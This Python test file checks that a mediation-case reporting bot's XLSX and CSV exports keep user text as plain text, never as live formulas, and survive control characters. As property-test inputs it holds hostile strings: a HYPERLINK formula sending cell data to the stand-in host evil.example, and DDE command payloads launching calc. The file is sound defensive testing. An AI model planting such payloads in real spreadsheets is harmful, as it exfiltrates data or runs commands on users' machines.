"""Spreadsheet cells are written as text: a summary or a name beginning with = + - @ never
becomes a live formula in the XLSX or the CSV, and text holding characters a workbook cannot
hold (ESC, U+FFFF…) neither breaks the export nor the file.

The property test fills every free-text field a report shows (names of parties, mediators,
teams and units, addresses, requests, people invited, place, summary, agreement, notes) with
hostile strings, exports, reopens the XLSX with openpyxl and parses the CSV."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import select

from content.catalog import load_catalog
from handlers.common import periods
from handlers.kit.text import clean
from handlers.reports.cells import looks_like_formula
from handlers.reports.data import export
from handlers.reports.logbook_cells import COLUMNS
from handlers.reports.money import Rates
from storage.db import Database
from storage.models import Case, CaseEvent, Person, Unit
from tests.support import START, Chat, build_world
from tests.unit.officials_fixtures import seed_ward

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
FIRST_ROW = 5  # the logbook sheet: title, period, note, header, then one row per case


async def set_texts(db: Database, *, team: str, mediator: str, summary: str, agreement: str) -> None:
    async with db.uow() as uow:
        (await uow.session.scalar(select(Unit).where(Unit.name == "Tổ hòa giải 1"))).name = team
        (await uow.session.scalar(select(Person).where(Person.full_name == "Hòa Giải A"))).full_name = mediator
        for case in await uow.session.scalars(select(Case)):
            case.summary, case.agreement = summary, agreement
        await uow.commit()


async def export_files(engine, who: str, full: bool = False):
    chat = Chat(engine, who)
    await chat.send("/baocao 2026")
    if full:
        await chat.press("Xuất kèm họ tên")
        await chat.press("Tôi cần họ tên")
    else:
        await chat.press("📥 Xuất báo cáo")
    assert "Có lỗi" not in chat.text, chat.text
    xlsx, csv_file = chat.replies[0].file, chat.replies[1].file
    return load_workbook(io.BytesIO(xlsx.data)), parse_csv(csv_file.data)


def parse_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def logbook_rows(wb) -> list[tuple]:
    stt = COLUMNS.index("stt")
    return [r for r in wb.worksheets[0].iter_rows(min_row=FIRST_ROW, values_only=True) if isinstance(r[stt], int)]


def formula_cells(wb) -> list[str]:
    return [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]


async def test_text_that_looks_like_a_formula_stays_text(db, world, engine):
    await seed_ward(db, world)
    await set_texts(
        db,
        team="-2+3+cmd|' /C calc'!A0",
        mediator="@SUM(1+1)*cmd|' /C calc'!A0",
        summary=EVIL,
        agreement="+1-1",
    )
    wb, rows = await export_files(engine, "official", full=True)
    assert formula_cells(wb) == []
    book = logbook_rows(wb)
    assert EVIL in book[0] and "+1-1" in book[0] and "-2+3+cmd|' /C calc'!A0" in book[0]
    assert any("@SUM(1+1)*cmd|' /C calc'!A0" in str(v) for v in book[0])
    fields = [f for row in rows for f in row]
    assert "'" + EVIL in fields and "'-2+3+cmd|' /C calc'!A0" in fields and "'+1-1" in fields
    assert not any(looks_like_formula(f) for f in fields)


async def test_control_and_noncharacters_in_stored_names_do_not_break_the_reports(db, world, engine):
    """Rows stored before the cleaning (a mediator named «Minh<ESC>», a summary with U+FFFF):
    the team's and the ward's /baocao still export, and the files open."""
    await seed_ward(db, world)
    await set_texts(
        db,
        team="Tổ hòa giải\x07 1",
        mediator="Minh\x1b",
        summary="Tranh chấp\uffff lối đi\u202e",
        agreement="Hai bên\x1b[31m đồng ý\ufffe",
    )
    for who in ("leader_a", "official"):
        wb, rows = await export_files(engine, who)
        book = logbook_rows(wb)
        assert book[0][0] == "Tổ hòa giải 1" and "Minh" in book[0]
        assert "Tranh chấp lối đi" in book[0] and "Hai bên[31m đồng ý" in book[0]
        assert rows[1][0] == "Tổ hòa giải 1" and "Tranh chấp lối đi" in rows[1]


# --- the property ---------------------------------------------------------------------------
PREFIXES = st.sampled_from(["", "", "=", "+", "-", "@", "\t", "\r", "\r\n", " =", "\t=", "\uff1d", "\n@"])
PIECES = st.sampled_from(
    [
        EVIL,
        "2+3+cmd|' /C calc'!A0",
        "SUM(A1:A9)",
        "Minh\x1b",
        "\x1b[31m",
        "Hòa\u202egiải",
        "\uffff",
        "\ufffe\ufdd0",
        "\x00",
        "\x07\x08\x0b\x0c",
        "\u200b\u200d\ufeff\u2060",
        "\u2066\u2069",
        "Nguyễn Văn An",
        "Trần Thị Bình",
        "a\u0301\u0301\u0301\u0301",
        "_x0007_",
        "\n\n",
        ";",
        '"',
        ",",
        "'",
        "0912 345 678",
    ]
)
ANY_TEXT = st.text(st.characters(exclude_categories=("Cs",)), max_size=12)  # the store refuses surrogates
HOSTILE = st.builds(lambda p, parts: p + "".join(parts), PREFIXES, st.lists(st.one_of(PIECES, ANY_TEXT), max_size=4))
NAMES = st.lists(HOSTILE, min_size=1, max_size=3)


class Store:
    """A ward with cases, in memory, reused by every example (hypothesis runs the examples)."""

    def __init__(self) -> None:
        self.loop = asyncio.new_event_loop()
        self.db = Database("sqlite+aiosqlite://")
        self.loop.run_until_complete(self._setup())
        self.t = load_catalog().t

    async def _setup(self) -> None:
        await self.db.create_all()
        self.world = await build_world(self.db)
        await seed_ward(self.db, self.world)

    def run(self, coro):
        return self.loop.run_until_complete(coro)

    async def fill(self, texts: dict) -> None:
        async with self.db.uow() as uow:
            w = self.world
            for unit_id, name in (
                (w.team_a.id, texts["teams"][0]),
                (w.team_b.id, texts["teams"][1]),
                (w.ward.id, texts["ward"]),
                (w.team_a.parent_id, texts["village"]),
            ):
                (await uow.units.get(unit_id)).name = name
            for person, name in zip(
                await uow.session.scalars(select(Person).order_by(Person.id)),
                texts["people"],
                strict=False,
            ):
                person.full_name = name
            for case in await uow.session.scalars(select(Case)):
                names = texts["parties"]
                case.parties = {
                    "names": names,
                    "addresses": texts["addresses"],
                    "contact": texts["contact"],
                    "requests": texts["requests"],
                    "invited": texts["invited"],
                    "place": texts["place"],
                }
                case.summary, case.agreement = texts["summary"], texts["agreement"]
                uow.session.add(CaseEvent(case_id=case.id, at=START, kind="note", text=texts["note"]))
            await uow.commit()

    async def export(self, with_parties: bool):
        async with self.db.uow() as uow:
            official = await uow.people.get(self.world.people["official"].id)
            ward = await uow.units.get(self.world.ward.id)
            return await export(
                uow,
                official,
                ward,
                periods.year(2026),
                now=START,
                rates=Rates(),
                with_parties=with_parties,
                t=self.t,
                tz=dt.UTC,
                via="test",
            )


def check(done, texts: dict) -> None:
    wb = load_workbook(io.BytesIO(done.xlsx))  # opens: no character a workbook cannot hold
    assert formula_cells(wb) == []
    for ws in wb.worksheets:
        for row in ws.iter_rows(values_only=True):
            for v in row:
                if isinstance(v, str):
                    assert clean(v) == v, repr(v)
    book = logbook_rows(wb)
    rows = parse_csv(done.csv)
    assert len(rows) == 1 + len(book) == 1 + done.data.case_count
    assert {r[0] or "" for r in book} <= {clean(n) for n in texts["teams"]}  # "" reads back None
    for xlsx_row, csv_row in zip(book, rows[1:], strict=True):
        assert len(xlsx_row) >= len(csv_row)
        for x, c in zip(xlsx_row, csv_row, strict=False):
            assert not looks_like_formula(c) and clean(c) == c, repr(c)
            if isinstance(x, str):  # the same text in both files; the CSV quotes formulas
                assert c == ("'" + x if looks_like_formula(x) else x)


def test_hostile_text_in_every_field_gives_files_that_open_with_text_cells_only():
    store = Store()

    # each example is a whole ward's export: a tenth of the profile's count (4 by default, 40 in CI)
    @settings(
        max_examples=max(4, settings.default.max_examples // 10), deadline=None, suppress_health_check=list(HealthCheck)
    )
    @given(
        st.fixed_dictionaries(
            {
                "teams": st.tuples(HOSTILE, HOSTILE),
                "village": HOSTILE,
                "ward": HOSTILE,
                "people": st.lists(HOSTILE, min_size=6, max_size=6),
                "parties": NAMES,
                "addresses": NAMES,
                "contact": HOSTILE,
                "requests": NAMES,
                "invited": NAMES,
                "place": HOSTILE,
                "summary": HOSTILE,
                "agreement": HOSTILE,
                "note": HOSTILE,
            }
        ),
        st.booleans(),
    )
    def run(texts: dict, with_parties: bool) -> None:
        store.run(store.fill(texts))
        check(store.run(store.export(with_parties)), texts)

    try:
        run()
    finally:
        store.run(store.db.dispose())
        store.loop.close()
